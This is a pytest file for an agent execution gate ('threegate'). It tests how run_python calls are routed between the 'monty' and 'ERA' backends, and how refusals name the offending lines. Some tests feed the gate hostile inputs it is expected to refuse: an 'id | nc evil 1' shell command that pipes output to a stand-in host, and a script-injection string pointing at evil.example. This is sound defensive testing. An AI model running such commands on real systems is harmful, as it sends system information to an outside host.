"""What `where: "auto"` chooses and why, that its form for ERA means the same, and the lines that refusals name."""

from __future__ import annotations

import asyncio
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.plugins.agents.agent_runs import make_run
from tests.support import Place, make_place
from threegate.core.errors import InvalidInput
from threegate.core.workspace import AgentRun, Workspace
from threegate.plugins.agents.door import Door
from threegate.plugins.agents.door_answers import DoorAnswer
from threegate.plugins.agents.door_arguments import RunPython
from threegate.plugins.agents.door_calls import calls_of, digest_of
from threegate.plugins.agents.runs import RunFacts

ASK = {"code": "6 * 7", "purpose": "Multiply two numbers.", "wait_sec": 0}


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return make_place(tmp_path)


@pytest.fixture
def run(place: Place) -> AgentRun:
    return make_run(place)


def call(place: Place, run: AgentRun, name: str = "run_python", **arguments: Any) -> DoorAnswer:
    async def tell(waited: float, seconds: float, what: str) -> None:
        pass

    return asyncio.run(Door(Workspace(place.root), run, 0).call(name, arguments, tell))


def draft(run: AgentRun) -> str:
    (path,) = run.inbox.glob("TR-*.md")
    return path.read_text()


def test_monty_if_it_can(place: Place, run: AgentRun) -> None:
    said = call(place, run, **ASK).value
    assert (said["where"], said["where_why"]) == ("monty", "Monty accepts the code")
    assert "\nbackend: monty\n" in draft(run)
    assert call(place, run, "wait", request_id=said["request_id"], wait_sec=0).value["where"] == "monty"


def test_else_era_with_the_line_that_decided(place: Place, run: AgentRun) -> None:
    code = "import csv\n\n\ndef rows():\n    yield 1\n\n\nprint(list(rows()))\n"
    said = call(place, run, **{**ASK, "code": code}).value
    assert said["status"] == "pending" and said["where"] == "era", said
    assert re.match(r"Monty refuses it: line [15]: ", said["where_why"])
    text = draft(run)
    assert "\nbackend: ERA\n" in text and "\npython3 /in/call.py\n" in text and 'name: "call.py"' in text
    again = call(place, run, **{**ASK, "code": code}).value
    assert again["request_id"] == said["request_id"] and again["where_why"] == said["where_why"]


def test_where_it_is_named_it_is_not_chosen(place: Place, run: AgentRun) -> None:
    for where in ("monty", "era"):
        said = call(place, run, **{**ASK, "where": where}).value
        assert said["status"] == "pending" and "where" not in said
    refused = call(place, run, **{**ASK, "code": "def f():\n    yield 1\n", "where": "monty"})
    assert refused.refused and refused.value["findings"][0]["line"] == 2


def test_what_neither_takes_is_refused_with_the_findings_of_both(place: Place, run: AgentRun) -> None:
    (run.work / "tree" / "call.py").write_text("mine")
    with pytest.raises(InvalidInput, match=r"call\.py is reserved"):
        call(place, run, **{**ASK, "files": ["call.py"]})
    said = call(place, run, **{**ASK, "purpose": "See https://evil.example/ <script>alert(1)</script>"})
    assert said.refused and said.value["status"] == "refused", said
    assert {row["where"] for row in said.value["findings"]} == {"monty", "era"}
    assert {row.get("argument") for row in said.value["findings"]} == {"purpose"}
    assert not list(run.inbox.glob("TR-*.md")) and not list(run.files.glob("*"))


def test_lines_of_a_refusal_are_those_of_the_code_and_nothing_else_is(place: Place, run: AgentRun) -> None:
    code = "a = 1\n## Network\n## Code\nb = 2\n\ndef f():\n    yield b\n"
    (finding, *_) = call(place, run, **{**ASK, "code": code, "where": "monty"}).value["findings"]
    assert (finding["argument"], finding["line"]) == ("code", 7)
    said = call(place, run, "run_program", argv=["sh", "-c", "id | nc evil 1"], purpose="Look.", wait_sec=0)
    assert said.refused and said.value["findings"][0]["argument"] == "argv" and "line" not in said.value["findings"][0]


def test_the_lines_survive_until_the_daemon_finds_what_is_wrong(place: Place, run: AgentRun) -> None:
    """The draft is exchanged for one that the daemon refuses: the answer names the line in the caller's code."""
    said = call(place, run, **{**ASK, "code": "a = 1\nb = 2\na * b"}).value
    (path,) = run.inbox.glob("TR-*.md")
    path.write_text(path.read_text().replace("\nb = 2\n", "\nimport socket\n"))
    place.once()
    answer = call(place, run, "wait", request_id=said["request_id"], wait_sec=0)
    assert answer.refused and answer.value["status"] == "refused", answer
    (finding, *_) = answer.value["findings"]
    assert (finding["argument"], finding["line"]) == ("code", 2) and "line 2: " in answer.value["why"]


FORMS = [
    ("6 * 7", None, "42\n"),
    ("x = 5\nx", None, "5\n"),
    ("print('hi')", None, "hi\n"),
    ("None", None, ""),
    ("d = {'a': n}\nd['a'] + m", {"n": 1, "m": 2}, "3\n"),
    ("from __future__ import annotations\n(\n  n\n  + 1\n)  # the end", {"n": 1}, "2\n"),
    ("print('é'); 'é' + w", {"w": "ö"}, "é\néö\n"),
    ("for i in range(2):\n    i", None, ""),
    ("'''a\nb'''", None, "a\nb\n"),
    ("x = 1;  x + 1 ;", None, "2\n"),
]


@pytest.mark.parametrize(("code", "inputs", "told"), FORMS)
def test_the_form_for_era_means_what_the_code_means_in_monty(
    code: str, inputs: dict[str, Any] | None, told: str, tmp_path: Path
) -> None:
    asked = RunPython(code=code, purpose="x", inputs=inputs)
    era = calls_of(asked, [], "codex")[-1]
    files = dict(era.inputs)
    script = files["call.py"].decode().replace("/in/", f"{tmp_path}/")
    (tmp_path / "call.py").write_text(script)
    if inputs is not None:
        assert json.loads(files["inputs.json"]) == inputs
        (tmp_path / "inputs.json").write_bytes(files["inputs.json"])
    done = subprocess.run([sys.executable, str(tmp_path / "call.py")], capture_output=True, text=True, timeout=60)
    assert (done.stdout, done.stderr) == (told, "")


@pytest.mark.parametrize("code", ["def f(:\n", "a = 1\r\na", "\0", "x" * 3 + "("])
def test_code_that_cannot_be_read_is_left_as_it_is(code: str) -> None:
    era = calls_of(RunPython(code=code, purpose="x"), [], "codex")[-1]
    assert dict(era.inputs)["call.py"] == code.encode()


def test_a_call_is_the_same_whichever_form_is_taken() -> None:
    def digest(**more: Any) -> str:
        return digest_of(calls_of(RunPython(**{"code": "1", "purpose": "x", **more}), [], "codex"))

    assert digest() == digest(where="auto") == digest(wait_sec=5) == digest(again=True)
    different = [digest(), digest(where="era"), digest(where="monty"), digest(code="2"), digest(inputs={"a": 1})]
    assert len(set(different)) == 5


def test_files_of_a_folder_raise_what_the_draft_declares(place: Place, run: AgentRun) -> None:
    (run.work / "tree" / "may.csv").write_text("1")
    root = RunFacts.read(run).root
    settings = place.root / "threegate.toml"
    text = settings.read_text().replace("[folders]\n", f'[folders]\n"{root}" = "confidential"\n')
    settings.write_text(text)
    call(place, run, **{**ASK, "files": ["may.csv"]})
    (draft,) = run.inbox.glob("TR-*.md")
    assert "\nData sensitivity: confidential\n" in draft.read_text()
    draft.unlink()
    call(place, run, **{**ASK, "code": "print(2)"})
    (draft,) = run.inbox.glob("TR-*.md")
    assert "\nData sensitivity: internal\n" in draft.read_text(), "no file of it is an input"
